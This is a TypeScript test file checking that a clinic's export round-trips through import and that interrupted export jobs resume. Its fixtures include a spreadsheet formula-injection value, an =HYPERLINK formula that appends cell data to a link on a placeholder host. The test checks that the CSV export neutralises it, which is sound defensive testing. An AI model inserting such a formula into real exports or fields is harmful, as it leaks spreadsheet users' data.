// The whole clinic's export, imported into an empty clinic, gives the same API answers: every
// page of the clientas, citas and llamadas lists, ids and derived fields included, on SQLite and
// PostgreSQL. updated_at is the one field that differs: an import is a change, and the copy's
// records carry its time. The data crosses the export's page size, and holds text a spreadsheet
// would run as a formula, line breaks, nulls, unlinked calls and prices with cents.
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Clinic } from '../../src/repos/clinics.js';
import { createClinic } from '../../src/services/accounts.js';
import type { Database } from '../../src/db/connect.js';
import { EXPORT_PAGE, JSONL_NAME, writeClinicExport } from '../../src/services/exports/clinic.js';
import { ExportJobs } from '../../src/services/exports/jobs.js';
import { importJsonLines } from '../../src/services/import.js';
import { bearer, buildTestApp, seedRecords, type TestApp } from '../helpers/app.js';
import { dialects } from '../helpers/db.js';
import { citaRecord, clientaRecord, llamadaRecord } from '../helpers/fixtures.js';
import { readZip } from '../helpers/zip.js';
import { parse } from 'csv-parse/sync';

const uuid = (kind: number, n: number) => `e${kind}000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
const MORE = EXPORT_PAGE + 150;

/** Records past one page of the export, with the text that needs care. */
function moreRecords() {
  const out = [];
  for (let n = 1; n <= MORE; n++) {
    const clienta = uuid(1, n);
    const odd = n % 97 === 0;
    out.push(
      clientaRecord(
        clienta,
        odd ? `=HYPERLINK("http://x.example/?"&A1,"clic") ${n}` : `Clienta Número ${n}`,
        `+3461${String(n).padStart(7, '0')}`,
        {
          email: n % 3 === 0 ? `c${n}@example.com` : null,
          vip: n % 5 === 0,
        },
      ),
      citaRecord(uuid(2, n), clienta, `2026-0${1 + (n % 8)}-1${n % 10}T1${n % 10}:15:00+01:00`, {
        precio_cents: 1000 + n,
        notas: odd ? 'primera línea\nsegunda, con "comillas"\r\ntercera' : null,
      }),
    );
    if (n % 2 === 0)
      out.push(
        llamadaRecord(uuid(3, n), n % 4 === 0 ? null : clienta, `2026-03-${String(1 + (n % 27)).padStart(2, '0')}T08:0${n % 10}:00+01:00`, {
          telefono_caller: `+3461${String(n).padStart(7, '0')}`,
          cliente_nombre: n % 4 === 0 ? '@alguien' : 'Nombre grabado',
        }),
      );
  }
  return out;
}

async function zipOf(t: TestApp, clinic: Clinic): Promise<Buffer> {
  const sink = new PassThrough();
  const chunks: Buffer[] = [];
  sink.on('data', (c: Buffer) => chunks.push(c));
  await writeClinicExport(t.database, clinic, sink, { nowMs: t.clock.now });
  return Buffer.concat(chunks);
}

/** Every page of a list, the records without updated_at. */
async function everything(t: TestApp, key: string, path: string, name: string): Promise<unknown[]> {
  const out: unknown[] = [];
  for (let offset = 0; ; offset += 500) {
    const res = await t.app.inject({ url: `${path}${path.includes('?') ? '&' : '?'}limit=500&offset=${offset}`, headers: bearer(key) });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json<Record<string, unknown>>();
    const page = body[name] as Record<string, unknown>[];
    out.push(...page.map(({ updated_at: _u, ...rest }) => rest));
    if (offset + 500 >= (body.total as number)) return out;
  }
}

const LISTS = [
  ['/api/v1/clientas', 'clientas'],
  ['/api/v1/citas?desde=2024-01-01&hasta=2027-12-31', 'citas'],
  ['/api/v1/llamadas?desde=2024-01-01', 'llamadas'],
] as const;

describe.each(dialects())('the clinic export, imported into an empty clinic (%s)', (dialect) => {
  let t: TestApp;
  let files: Map<string, Buffer>;

  beforeAll(async () => {
    t = await buildTestApp(dialect);
    await seedRecords(t.database, t.clinicA, moreRecords());
    files = await readZip(await zipOf(t, t.clinicA));
  }, 120_000);
  afterAll(() => t?.close());

  it('holds the import file, a CSV per table and a LEEME.txt in the clinic language', () => {
    expect([...files.keys()]).toEqual(['LEEME.txt', JSONL_NAME, 'clientas.csv', 'citas.csv', 'llamadas.csv']);
    expect(files.get('LEEME.txt')!.toString()).toContain('clinic-api import --clinic ID clinica.jsonl');
    const lines = files.get(JSONL_NAME)!.toString().trimEnd().split('\n');
    const clientas = lines.filter((l) => l.startsWith('{"type":"clienta"')).length;
    // Every line is a record, clientas first.
    expect(lines.findIndex((l) => !l.startsWith('{"type":"clienta"'))).toBe(clientas);
    expect(clientas).toBe(MORE + 5);
  });

  it('writes every record as CSV with the import columns, formulas neutralised, line breaks kept', () => {
    const rows = parse(files.get('clientas.csv')!, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(['id', 'nombre', 'telefono', 'email', 'idioma', 'vip', 'cliente_desde', 'created_at']);
    expect(rows).toHaveLength(MORE + 5);
    const formula = rows.find((r) => r.id === uuid(1, 97))!;
    expect(formula.nombre).toMatch(/^'=HYPERLINK\(/);
    expect(formula.telefono).toBe('+34610000097');
    const citas = parse(files.get('citas.csv')!, { columns: true }) as Record<string, string>[];
    expect(citas.find((r) => r.id === uuid(2, 97))!.notas).toBe('primera línea\nsegunda, con "comillas"\r\ntercera');
    const calls = parse(files.get('llamadas.csv')!, { columns: true }) as Record<string, string>[];
    expect(calls.find((r) => r.id === uuid(3, 4))).toMatchObject({ clienta_id: '', cliente_nombre: `'@alguien` });
  });

  it('gives the same list answers once imported into an empty clinic, ids included', async () => {
    const copy = await createClinic(
      t.database.db,
      { name: 'Copia', timezone: t.clinicA.timezone, currency: t.clinicA.currency, plan: 'premium' },
      t.clock.now,
    );
    const key = (await t.keys.create({ clinicId: copy.id, name: 'copy', expiresAt: null, createdBy: null })).key;
    const imported = await importJsonLines(t.database, copy.id, PassThrough.from([files.get(JSONL_NAME)!]));
    expect(imported.errors).toEqual([]);
    expect(imported.ok).toBe(true);
    for (const [path, name] of LISTS) {
      const before = await everything(t, t.keyA, path, name);
      expect(before.length).toBeGreaterThan(0);
      expect(await everything(t, key, path, name), path).toEqual(before);
    }
  }, 120_000);

  it('puts an export back in the queue when the service stops while making it, and makes it whole later', async () => {
    // The database as the jobs see it, whose third write (the first part of the ZIP: after taking
    // the export and clearing old parts) waits until the test lets it go.
    let writes = 0;
    let reached!: () => void;
    const atPart = new Promise<void>((r) => (reached = r));
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const gated: Database = {
      ...t.database,
      writeTransaction: async (fn, o) => {
        if (++writes === 3) {
          reached();
          await gate;
        }
        return t.database.writeTransaction(fn, o);
      },
    };
    const jobs = new ExportJobs(gated, { now: () => t.clock.now, onError: (task, err) => console.error(task, err) });
    const row = await jobs.request(t.clinicB.id, null);
    const making = jobs.pass();
    await atPart;
    const stopping = jobs.stop();
    release();
    await Promise.all([making, stopping]);
    const after = await t.database.db.selectFrom('clinic_exports').selectAll().where('id', '=', row.id).executeTakeFirstOrThrow();
    expect(after).toMatchObject({ state: 'queued', lease_until: null });
    expect(await t.database.db.selectFrom('clinic_export_parts').select('seq').where('export_id', '=', row.id).execute()).toEqual([]);

    // The next instance (or start) makes it.
    const next = new ExportJobs(t.database, { now: () => t.clock.now, onError: (task, err) => console.error(task, err) });
    await next.pass();
    const ready = (await next.ready(t.clinicB.id, row.id))!;
    expect(ready.state).toBe('done');
    const parts: Buffer[] = [];
    for await (const part of next.file(ready)) parts.push(part);
    expect((await readZip(Buffer.concat(parts))).get(JSONL_NAME)!.toString()).toContain('"type":"clienta"');
    await next.stop();
  });
});
